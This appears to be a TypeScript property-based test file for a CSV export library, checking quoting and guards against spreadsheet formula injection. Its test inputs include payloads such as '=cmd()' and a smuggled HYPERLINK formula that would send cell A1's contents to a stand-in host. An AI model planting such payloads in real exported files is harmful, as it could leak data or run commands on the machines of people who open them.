import fc from 'fast-check'
import { expect, it } from 'vitest'
import { toCsv } from '@/lib/domain/text/csv'
import { parseCsv, readCsvRows } from '@/lib/domain/text/parse-csv'

it('ends every line and quotes only where necessary', () => {
  expect(
    toCsv([
      ['email', 'lang'],
      ['"odd, one"@example.com', 'fr'],
    ]),
  ).toBe('email,lang\r\n"""odd, one""@example.com",fr\r\n')
  expect(toCsv([])).toBe('')
})

it.each(['=cmd()', '+1', '-1', '@sum', '\tx'])('%o is no formula in a spreadsheet', (text) => {
  expect(toCsv([[text]]).replaceAll('"', '')).toBe(`'${text}\r\n`)
})

/** The cells of a line as spreadsheets of other locales split it: a quotation mark quotes at a cell's start only. */
function cellsOf(text: string, separator: string): string[] {
  const cell = new RegExp(
    `(?:"((?:[^"]|"")*)"?([^${separator}\\r\\n]*)|([^${separator}\\r\\n]*))(${separator}|\\r\\n|\\r|\\n|$)`,
    'y',
  )
  const cells: string[] = []
  for (cell.lastIndex = 0; cell.lastIndex < text.length; ) {
    const [, quoted, rest = '', plain = ''] = cell.exec(text) ?? []
    cells.push(quoted === undefined ? plain : quoted.replaceAll('""', '"') + rest)
  }
  return cells
}

const signs = fc.constantFrom(...',;\t\r\n"\' =+-@＝＋－＠', '\u00a0', 'a', '1', 'HYPERLINK("x")')
const hostile = fc.array(signs, { maxLength: 12 }).map((parts) => parts.join(''))
const tables = fc.array(fc.array(hostile, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 })

it.each([',', ';', '\t'])('has no formula where cells are separated by %j', (separator) => {
  fc.assert(
    fc.property(tables, (rows) => {
      for (const cell of cellsOf(toCsv(rows), separator)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
    }),
    { numRuns: 2000 },
  )
})

it('keeps a name with a comma readable in a French spreadsheet', () => {
  const file = toCsv([['26-4821-7730', 'Bob;=HYPERLINK("http://x?"&A1;"open")']])
  expect(cellsOf(file, ';')[1]).toBe(`'=HYPERLINK(""http://x?""&A1`)
})

it('is parsed back as it was, with formula guards removed', async () => {
  const rows = tables.map((table) => table.filter((row) => row.some((field) => field !== '')))
  await fc.assert(
    fc.asyncProperty(rows, async (table) => {
      const file = toCsv([['head', 'two'], ...table])
      expect(
        parseCsv(file)
          .slice(1)
          .map(({ fields }) => fields),
      ).toEqual(table)
      const read: string[][] = []
      for await (const { fields } of readCsvRows([file], ',')) read.push(fields)
      expect(read.slice(1)).toEqual(table)
    }),
  )
})
